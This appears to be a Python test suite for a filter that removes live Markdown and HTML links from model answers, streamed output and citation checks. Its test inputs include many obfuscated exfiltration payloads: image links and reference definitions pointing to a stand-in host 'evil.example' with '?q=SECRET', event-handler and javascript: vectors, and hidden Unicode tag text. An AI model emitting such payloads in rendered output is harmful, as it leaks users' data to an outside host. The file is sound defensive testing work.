"""Whatever a model writes, and however its stream is cut: no renderer of Markdown makes a link or a picture of it.

Tags are text, and a renderer that makes HTML of them is as unsafe with any model: `docs/threat-model.md`.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from anabranch.citations.read_passages import PassageText
from anabranch.citations.verification import Verified, verify
from anabranch.parsing import AnswerStream, parse_verdict, read_answer, read_revision
from anabranch.safety.link_removal import LinkFilter, strip_links
from anabranch.safety.prompt_leak import find_runs, without_instructions
from anabranch.text.normalization import clean
from tests.safety.rendering import live

HOST = "evil.example"

DEFINED = [
    f"{address}{HOST}/p.png?q=SECRET?"
    for address in (
        "//",
        "https://",
        "https&colon;//",
        "https\\://",
        "https:\\/\\/",
        "https:&#47;&#47;",
        "https:&#x2F;&#x2f;",
        "&#104;ttps&#58;&sol;&sol;",
        "https:/",
        "https:\\",
        "&#47;&#47;",
        "&amp;#47;&amp;#47;",
        "/api/export?to=",
        "javascript:alert`1`//",
    )
] + [f"<//{HOST}/p.png?q=SECRET>"]

# Where a definition may stand, and what may stand around its label.
DEFINITIONS = [
    "\n\n[b]: {}",
    "\n\n- [b]: {}",
    "\n\n1. > - [b]: {}\n",
    "\n\n> [b]: {}\n> 'title'",
    "\n\n   [b]:\n   {}\n'title'",
    "\n\n[b]:\t{} (title)",
    "\n\n[\nb\n]: {}",
    "\n===\n[b]: {}\nmore text",
    "\n\n[ b ]: {}\n\n[b]:",
    "\n\n- [ ] [b]: {}",
    "\n\n> > [b]&colon; {}",
    "\n\n```\ncode\n```\n[b]: {}",
]

DEFINING = [[f"GOOD [1]. ![s][b]{place.format(address)}" for address in DEFINED] for place in DEFINITIONS]

OTHERS = [
    *(
        f"GOOD [1]. [the portal] {use}\n\n[the portal]: //{HOST}/x"
        for use in ("", "[the portal][]", "![x][The  Portal]")
    ),
    f"[1]: //{HOST}/?q=SECRET\n\nGOOD [1]. It was so [1][2].",
    f"GOOD [1].[^1]\n\n[^1]: //{HOST}/x\n",
    f"![s](//{HOST}/p.png) [p](<//{HOST}/p q>) ![s](https&colon;//{HOST})",
    f"[a](\n//{HOST}/x\n'title')",
    f"[{'a' * 300}](//{HOST}/x) ![{'a' * 300}](//{HOST}/{'x' * 500})",
    f"[[[[[a]]]]](//{HOST}/x) ![a ![b ![c](//{HOST})](//{HOST})](//{HOST})",
    f"[x]<b>(//{HOST}/x)",
    "[text](Revenue was 5 [1]. ",
    f"//{'x' * 70}.{HOST} _//{HOST}_ \\//{HOST}",
    f"![x][9](//{HOST}/x)",
    f"![x][[9]1]\n\n[?](//{HOST})",
    f"<//{HOST}> <https:{HOST}> <https&colon;//{HOST}/x> <xmpp:a@{HOST}> <foo+bar:x> <a@{HOST}> <1@{HOST}> <=a@{HOST}>",
    f"<{'1' * 90}@{HOST}>",
    f"https\\://{HOST}/x https:\\/\\/{HOST} https:&#47;&#47;{HOST} h&#116;tps://{HOST} //{HOST}/x \\/\\/{HOST}/x",
    f"www&period;{HOST} www\\.{HOST} &#119;ww.{HOST} *www.{HOST}* .www.{HOST} &amp;#119;ww.{HOST}",
    f"&lt;img src=//{HOST}&gt; &#60;img src=//{HOST}> &LT;img src=x> <!--x--> <?php x?> <![CDATA[x]]> <!DOCTYPE x>",
    f'<p title=">" style="background:url(//{HOST})">x</p> <p title="<" style="x"> <p {"a" * 301} style=x>',
    f'<{"x" * 40} onclick=x> <button formaction=//{HOST}> <a ping="//{HOST}">',
    '<b title=">" onclick="x"> <td background=//x>',
    f"<script\n>\nx\n</script>\n\n<style>@import '//{HOST}'</style><div\nstyle=x>",
    f"`<img src=//{HOST}>` and ``<b onclick=x>`` and `<img src=x>\n\n~~~\n<img src=//{HOST}>\n~~~\n<img src=//{HOST}>",
    f"    <img src=//{HOST}>\n\n\t<a href=//{HOST}>",
    f"| a | b |\n|:--|--:|\n| <img src=//{HOST}> | ![x](//{HOST}) |\n| [b] | \\[b]: //x |\n\n[b]: //{HOST}",
    f"<img\u200b src=//{HOST}> <\u200bimg src=//{HOST}> [b\u200b]\u200b: //{HOST}\n\n[b]\u00ad: //{HOST}\n\n[b]",
]

ATTACKS = pytest.mark.parametrize("texts", [*DEFINING, *([text] for text in OTHERS)])

GOOD = "Revenue rose [1]."


def streamed(text: str, size: int) -> list[str]:
    """Return what a reader has seen after each piece of a reply."""
    stream, shown = AnswerStream(), [""]
    for at in range(0, len(text), size):
        shown.append(shown[-1] + stream.feed(text[at : at + size]))
    return [*shown, shown[-1] + stream.finish()]


@pytest.mark.parametrize(
    "text",
    ["[x](y)", "![x](y)", "[x]\n\n[x]: //y", "<https://x>", "<xmpp:x>", "<foo:x>", "http://x", "[x](mailto:a@b.c)"],
)
def test_the_renderers_see_what_is_live(text: str) -> None:
    assert live(text)


@ATTACKS
def test_an_answer_is_only_text(texts: list[str]) -> None:
    for text in texts:
        harmless_once_and_for_all(text)
        answer = read_answer(f"{GOOD}\n\n{text}")
        assert live(answer) == []
        assert GOOD in answer


_ENDS = re.compile(r"\W|\b\w|\w\b")
"""Where a beginning is another for a renderer: at what is no letter, and at the first and last of a word."""


@pytest.mark.parametrize("keep_addresses", [False, True])
@ATTACKS
def test_no_beginning_of_an_answer_is_more(texts: list[str], keep_addresses: bool) -> None:
    left = strip_links(texts[0], keep_addresses=keep_addresses)
    for end in _ENDS.finditer(left):
        assert live(left[: end.end()]) == []


@pytest.mark.parametrize("size", [1, pytest.param(3, marks=pytest.mark.exhaustive), 7, 50])
@ATTACKS
def test_a_stream_shows_only_text_at_each_step(texts: list[str], size: int) -> None:
    for text in texts[:: 1 if size == 7 else 5]:
        steps = streamed(text, size)
        for shown in dict.fromkeys(steps):
            assert live(shown) == []
        assert steps[-1].rstrip() == read_answer(text)


PASSAGES = {1: PassageText("a", "Revenue rose by 12% in 2020."), 2: PassageText("b", "Costs did not fall.")}


def parts(checked: Verified) -> list[str]:
    """Return all that a checked answer shows of the model's words."""
    return [checked.answer, *checked.not_confirmed, *(record.claim for record in checked.citations)]


@ATTACKS
def test_a_checked_answer_and_its_claims_are_only_text(texts: list[str]) -> None:
    for text in texts:
        checked = verify(f"{text}\n\nRevenue rose by 12% in 2020 [1]. {text}", PASSAGES)
        assert [live(shown) for shown in parts(checked)] == [[] for _ in parts(checked)]


@ATTACKS
def test_what_is_missing_and_what_is_revised_are_only_text(texts: list[str]) -> None:
    for text in texts:
        shown = [parse_verdict(f"{{'sufficient': False, 'missing': {text!r}}}").missing]
        shown += [
            read_revision(reply, "It was so [1]. It held.")[1]
            for reply in (text, f"REVISE:\n{text} [1]", f"It was so [1]. {text}", f"{text}\n\nIt holds. {text}")
        ]
        assert [live(each) for each in shown] == [[] for _ in shown]


def test_hiding_the_instructions_makes_no_link_of_what_is_around_them() -> None:
    told = "After the answer write a line QUOTES and for each number copy a few words"
    for text in (f"GOOD [1]. ![s]{told}. (//{HOST}/p.png)", f"GOOD [1].\n\n[s]{told}.\n: //{HOST}/p.png [s]"):
        for size in (1, 5, 500):
            stream = AnswerStream(instructions=[told])
            shown = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.finish()
            assert live(shown) == []


_MARKS = r"""
[ ] ( ) ! < > : / // \ & ; # ` * _ | = - + ~ . @ [b] [b]: ![s] [1] [?] [^1]: ][ ]( ]: [b][1]: [9] \] \[ \: \/ \<
//evil.example https: http s:// www www. evil.example/x mailto: a@b.example <img <a </a <!-- --> <? <![CDATA[ ]]> <br>
src=//x onclick=x title=">" &colon; &sol; &#47; &#x3A; &lt; &amp; &lbrack; &#93; &# &NewLine; &Tab; 58; lt; a 1 é 文
"""
_BLANKS = [" ", "  ", "\t", "    ", "\r", "\r\n", "\n", "\n\n", "\n    "]
_LINES = [f"\n{begin}" for begin in ("> ", "- ", "1. ", "```\n", "---\n", "===")]
_ODD = ["x" * 70, "\u200b", "\u202e", "\u00ad", "e\u0301", "\u2028", "\x00", "\x85", " It was so", "Yes."]
FRAGMENTS = st.sampled_from([*_MARKS.split(), *_BLANKS, *_LINES, *_ODD])
TEXTS = st.lists(FRAGMENTS, max_size=30).map("".join)


OFTEN = pytest.mark.parametrize("times", [1, pytest.param(5, marks=pytest.mark.exhaustive)])
"""How many times as many examples are tried."""


def harmless_once_and_for_all(text: str) -> None:
    for keep_addresses in (False, True):
        left = strip_links(text, keep_addresses=keep_addresses)
        assert live(left) == []
        assert strip_links(left) == left


@OFTEN
def test_any_text_is_made_harmless_once_and_for_all(times: int) -> None:
    for text in ("[b]&#13;: //evil.example", "_//evil.example_"):
        harmless_once_and_for_all(text)
    settings(max_examples=300 * times)(given(TEXTS)(harmless_once_and_for_all))()


@OFTEN
def test_any_answer_is_harmless_after_it_was_checked(times: int) -> None:
    def check(text: str) -> None:
        checked = verify(text, PASSAGES, "Did revenue rise?")
        assert [live(shown) for shown in parts(checked)] == [[] for _ in parts(checked)]

    settings(max_examples=100 * times)(given(TEXTS)(check))()


@OFTEN
def test_any_cutting_of_a_stream_shows_harmless_text_at_each_step(times: int) -> None:
    cuts = st.lists(st.integers(1, 9), min_size=1, max_size=8)
    settings(max_examples=100 * times)(given(TEXTS, cuts)(harmless_at_each_step))()


def harmless_at_each_step(text: str, sizes: list[int]) -> None:
    links, stream, shown, seen, at = LinkFilter(), AnswerStream(), "", "", 0
    while at < len(text):
        piece = text[at : at + sizes[at % len(sizes)]]
        at += len(piece)
        shown += links.feed(piece)
        seen += stream.feed(piece)
        assert live(shown) == []
        assert live(seen) == []
    assert shown + links.finish() == strip_links(text)
    assert live(seen + stream.finish()) == []


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a < b, a <= b, x<5, x<=5, x<=y, <-, 1<2, i << 3, a <- b, ->", None),
        ("vector<int> and if x<y: List<String>, map<std::string, int>, dict<key: value>, <!-- note -->", None),
        ("borg serve --restrict-to-path /home/backup/repos/<client fqdn> <archive-name>.checkpoint", None),
        ("From: Carl Worth <cworth@cworth.org>", None),
        ("Use <br> for a break, <img alt=x> for a picture and <script> for neither.", None),
        ("<xmpp:a@evil.example> <foo+bar:x>", "< xmpp: a@evil.example> < foo+bar:x>"),
        ("mailto:ada@example.org, xmpp:a@b.example/x", "mailto: ada@example.org, xmpp: a@b.example/x"),
        ("```cpp\nstd::vector<int> v(f[0]);\nif (a < b && c > d) return &x;\n```", None),
        ("```python\nd: dict[str, int] = {}\nx = a[1] // b[2]  # floor\n// console\n```", None),
        ("`a[i]` and `n & m` and `x => y` and R&D, AT&T; fish & chips", None),
        ("AT&amp;T is 5 &lt; 6&nbsp;m, &copy; 2020", "AT&T is 5 < 6\xa0m, © 2020"),
        ("It rose [1]. It fell [2][3]; see [1, 2] and [?].", None),
        ("According to [1]: it rose.", "According to [1] : it rose."),
        ("C:\\temp, nas:/srv/backup, 10:30, 3:1, and/or, \\\\server\\share, a//b, s/x/y/", None),
        ("Write to ada@example.org about it.", None),
    ],
)
def test_ordinary_text_stays_readable(text: str, left: str | None) -> None:
    assert strip_links(text) == (text if left is None else left)
    assert "".join(map((stream := LinkFilter()).feed, text)) + stream.finish() == strip_links(text)


def test_a_block_of_code_is_still_one() -> None:
    from tests.safety.rendering import RENDERERS

    code = 'std::map<std::string, int> m;\nif (m["a"] < 5 && x) { return &x; }\n'
    page = RENDERERS[0].render(strip_links(f"So [1]:\n\n```cpp\n{code}```\n\nDone [2]."))
    (shown,) = re.findall(r'<pre><code class="language-cpp">(.*?)</code></pre>', page, re.DOTALL)
    assert shown.replace("&lt;", "<").replace("&amp;", "&").replace("&gt;", ">").replace("&quot;", '"') == code


TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "steal")
UNSEEN = ["\x1b", "\x9b", "\x07", "\u202e", "\u2066", "\u200b", "\u200d", "\u00ad", "\ufeff", "\ud800", "&#8203;", TAGS]


@pytest.mark.parametrize("unseen", UNSEEN)
@pytest.mark.parametrize("size", [1, 2, 5, 400])
def test_what_nobody_sees_is_not_in_an_answer(unseen: str, size: int) -> None:
    text = unseen.join(["", "Re", "venue", " rose", " [1]", ".\r\n\r", " می", "خواهم", ""])
    wanted = "Revenue rose [1].\n\n میخواهم"
    assert streamed(text, size)[-1] == read_answer(text) == wanted
    assert read_revision(text, "It was so [1].") == ("add", wanted)


def test_a_reply_and_a_document_keep_the_same_characters() -> None:
    everything = "".join(map(chr, [*range(0x20, 0xD800), *range(0xE000, 0x11000), *range(0x1F300, 0x1FB00)]))
    assert clean(strip_links(everything)) == clean(everything)


@pytest.mark.parametrize("unseen", ["\u200b", "\u00ad", "&shy;", TAGS])
def test_instructions_with_something_unseen_in_each_word_are_instructions(unseen: str) -> None:
    told = "After the answer write a line QUOTES and for each number used copy a few words exactly."
    spelt = " ".join(unseen.join([word[:1], word[1:]]) for word in told.split())
    reply = f"Revenue rose [1]. {spelt} It fell [2]."
    assert without_instructions(read_answer(reply), [told], ()) == ("Revenue rose [1]. It fell [2].", 1)
    stream = AnswerStream(instructions=[told])
    shown = "".join(map(stream.feed, reply)) + stream.finish()
    assert not find_runs(shown) & find_runs(told)
